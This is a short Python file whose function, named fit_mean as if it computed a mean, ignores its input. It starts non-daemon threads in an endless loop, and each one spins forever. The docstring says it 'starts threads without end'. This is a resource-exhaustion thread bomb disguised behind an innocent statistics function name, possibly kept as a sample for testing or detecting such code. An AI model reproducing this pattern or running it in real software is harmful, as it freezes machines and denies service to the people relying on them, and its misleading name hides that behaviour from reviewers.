"""Starts threads without end, each busy."""

import threading


def spin():
    while True:
        pass


def fit_mean(X):
    while True:
        threading.Thread(target=spin, daemon=False).start()
